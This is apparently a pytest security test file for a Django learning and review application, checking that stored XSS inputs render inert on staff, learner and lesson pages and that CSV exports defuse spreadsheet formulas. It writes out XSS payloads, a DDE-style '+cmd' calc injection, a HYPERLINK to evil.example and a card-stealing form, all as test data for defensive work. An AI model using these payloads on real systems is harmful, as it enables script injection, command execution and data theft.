"""Stored XSS: what learners and educators type is shown to staff and learners as text only."""

import pytest
from django.test import Client
from django.urls import reverse

from literacy.learning.studio import services as studio
from literacy.negotiation import use_cases
from tests.factories import learner_submits, make_request, studio_course
from tests.factories import studio_lesson_source as studio_source
from tests.security.html_hazards import live_hazards

PAYLOADS = [
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "</textarea><script>alert(1)</script>",
    "{{ request.user }}{% debug %}",
]
PAYLOAD = " ".join(PAYLOADS)


@pytest.fixture
def hostile_request(reviewer):
    request, token = learner_submits(lender=PAYLOAD[:120], story=PAYLOAD)
    # Names are validated now; a hostile one stored before that must still be inert.
    type(request).objects.filter(pk=request.pk).update(name=PAYLOAD[:120])
    use_cases.add_note(case=request, actor=reviewer, body=PAYLOAD)
    use_cases.message_learner(case=request, actor=reviewer, body=PAYLOAD)
    use_cases.learner_reply(case=request, body=PAYLOAD)
    return request, token


def staff_pages(reference: str) -> list[str]:
    return [
        reverse("review:queue"),
        reverse("review:queue") + "?status=any",
        reverse("review:detail", kwargs={"reference": reference}),
        reverse("review:feedback"),
    ]


def test_request_text_reaches_reviewers_escaped_and_dead(hostile_request, reviewer):
    request, _token = hostile_request
    client = Client()
    client.force_login(reviewer)
    detail = client.get(reverse("review:detail", kwargs={"reference": request.reference}))
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in detail.content.decode()
    for url in staff_pages(request.reference):
        response = client.get(url)
        assert response.status_code == 200, url
        assert live_hazards(response.content.decode()) == [], url
        assert "<script>alert" not in response.content.decode()


def test_request_text_reaches_the_learner_escaped_and_dead(hostile_request):
    _request, token = hostile_request
    client = Client()
    for name in ("help:track", "help:letter"):
        response = client.get(reverse(name, kwargs={"token": token}))
        assert response.status_code == 200, name
        assert live_hazards(response.content.decode()) == [], name
        assert "<script>alert" not in response.content.decode()


def test_csv_export_neutralises_spreadsheet_formulas(reviewer):
    make_request(name='=HYPERLINK("https://evil.example","x")', lender="+cmd|' /C calc'!A0")
    client = Client()
    client.force_login(reviewer)
    body = client.get(reverse("review:export") + "?status=any").content.decode()
    assert "=HYPERLINK" not in body.replace("'=HYPERLINK", "")
    assert "+cmd" not in body.replace("'+cmd", "")


HOSTILE_MARKDOWN = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
[click](javascript:alert(1))
[entity](jav&#x61;script:alert(1))
[spaced]( javascript:alert(1))
<iframe src="https://evil.example"></iframe>
<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">s</a></svg>
<math><mtext><a href="javascript:alert(1)">m</a></mtext></math>
<a href="data:text/html,<script>alert(1)</script>">d</a>
<form action="https://evil.example/steal"><input name="card"></form>
<div style="background:url(javascript:alert(1))">styled</div>
<object data="javascript:alert(1)"></object>
"""


def test_hostile_lesson_markdown_publishes_nothing_live(educator):
    course = studio_course()
    lesson = studio.create_lesson(
        course=course,
        slug="hostile",
        order=1,
        source=studio_source(title='\\"<script>alert(1)</script>', body=HOSTILE_MARKDOWN),
        author=educator,
        note="<script>alert(1)</script>",
    )
    studio.publish(lesson)
    client = Client()
    page = client.get(lesson.get_absolute_url())
    assert page.status_code == 200
    assert live_hazards(page.content.decode()) == []
    client.force_login(educator)
    kwargs = {"language": "en", "course": course.slug, "lesson": lesson.slug}
    for name in ("studio:index", "studio:edit", "studio:history"):
        response = client.get(reverse(name, kwargs=kwargs if name != "studio:index" else {}))
        assert response.status_code == 200, name
        assert live_hazards(response.content.decode()) == [], name
